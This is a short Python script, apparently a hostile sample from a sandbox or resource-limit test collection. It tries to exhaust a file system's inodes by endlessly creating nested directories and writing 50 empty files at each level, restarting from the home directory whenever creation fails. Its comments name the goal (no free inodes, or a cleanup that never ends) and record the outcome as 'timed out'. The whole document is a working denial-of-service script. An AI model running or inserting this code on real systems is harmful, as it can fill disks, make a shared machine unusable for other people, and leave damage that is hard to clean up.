# Goes for inodes and directories: it makes files and nested folders without end.
# Gains: a file system without inodes, or a cleanup that never ends.
# outcome: timed out
# ruff: noqa
import os
depth = 0
while True:
    try:
        os.mkdir("d")
        os.chdir("d")
    except OSError:
        os.chdir(os.environ["HOME"])
    for number in range(50):
        try:
            open(f"f{depth}-{number}", "w", encoding="utf-8").close()
        except OSError:
            pass
    depth += 1
